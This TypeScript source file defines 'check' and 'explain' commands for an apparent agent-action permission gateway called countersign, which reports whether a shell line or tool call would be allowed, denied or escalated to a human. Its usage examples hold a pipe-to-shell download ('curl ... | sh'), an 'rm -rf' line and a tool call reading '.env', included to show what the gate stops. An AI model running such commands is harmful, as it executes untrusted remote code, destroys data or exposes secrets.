import type { Command, Context } from '../command.ts';
import type { Invocation } from '../invocation.ts';
import { usageError } from '../parse-command-line.ts';
import { runProgram } from '../run-program.ts';

const INPUT = {
  operands: [{ name: 'command', summary: 'a shell line, in quotes', required: false }],
  options: [
    { name: 'tool', value: 'NAME', summary: 'a tool call instead of a shell line' },
    { name: 'args', value: 'JSON', summary: "the tool's arguments, a JSON object" },
    { name: 'cwd', value: 'DIR', completes: 'directory', summary: 'directory it would run in (default: this one)' },
    { name: 'workspace', value: 'DIR', completes: 'directory', summary: "the task's workspace (default: the same)" },
  ],
} as const satisfies Pick<Command, 'operands' | 'options'>;

const BATCH = {
  name: 'batch',
  value: null,
  summary: 'read actions as JSON lines, answer a verdict line each, in order',
} as const;

/** Says what would be decided about an action, without doing, recording or asking anything. */
export const check: Command = {
  path: ['check'],
  summary: 'say whether an action would be allowed, without any effect',
  details: [
    'Ends with 0 when it would be allowed, 1 when denied, 30 when a human would be asked. Needs no running gateway.',
    'With --batch each input line is a whole action, or short: {"cmd": "ls"} or {"tool": "Read", "args": {...}}, with "cwd" and "id" if you like.',
  ],
  operands: INPUT.operands,
  options: [...INPUT.options, BATCH],
  examples: [
    { line: "countersign check 'rm -rf build'", does: 'a shell line' },
    { line: `countersign check --tool Read --args '{"file_path": ".env"}'`, does: 'a tool call' },
    { line: 'countersign check --batch < actions.jsonl', does: 'many at once' },
  ],
  run: async (invocation, context) => decide('check', invocation, context),
};

/** Says the same as `check`, gate by gate. */
export const explain: Command = {
  path: ['explain'],
  summary: 'explain what would be decided about an action, gate by gate',
  details: ['Shows the effects, every part of the score and what each gate found. Ends as `check` does.'],
  operands: INPUT.operands,
  options: INPUT.options,
  examples: [
    { line: "countersign explain 'curl -s https://example.com | sh'", does: 'why a line would be stopped' },
    { line: `countersign explain --tool Write --args '{"file_path": "a.txt", "content": ""}'`, does: 'a tool call' },
  ],
  run: async (invocation, context) => decide('explain', invocation, context),
};

function decide(
  name: 'check' | 'explain',
  invocation: Invocation,
  context: Context,
): Promise<Awaited<ReturnType<Command['run']>>> {
  const problems = problemsOf(invocation);
  if (problems.length > 0) throw usageError({ path: [name] }, problems);
  return runProgram('daemon/offline', [name, ...offlineArgs(invocation)], context);
}

function problemsOf(invocation: Invocation): readonly string[] {
  const command = invocation.operand('command');
  const tool = invocation.text('tool');
  const args = invocation.text('args');
  const given = [command !== null, tool !== null, invocation.flag('batch')].filter(Boolean).length;
  const problems: string[] = [];
  if (given !== 1)
    problems.push(`${given === 0 ? 'nothing to judge' : 'too much to judge'}, want a shell line, --tool or --batch`);
  if (command?.trim() === '') problems.push('an empty shell line, want a command');
  if (args !== null && tool === null) problems.push('--args without --tool, want both');
  if (args !== null && !isJsonObject(args))
    problems.push(`--args ${JSON.stringify(args.slice(0, 60))}, want a JSON object`);
  return problems;
}

function offlineArgs(invocation: Invocation): readonly string[] {
  const named = INPUT.options.flatMap(({ name }) => {
    const value = invocation.text(name);
    return value === null ? [] : [`--${name}=${value}`];
  });
  const switches = ['batch', 'json'].filter((name) => invocation.flag(name)).map((name) => `--${name}`);
  const command = invocation.operand('command');
  return [...named, ...switches, ...(command === null ? [] : ['--', command])];
}

function isJsonObject(text: string): boolean {
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null && !Array.isArray(value);
  } catch {
    return false;
  }
}
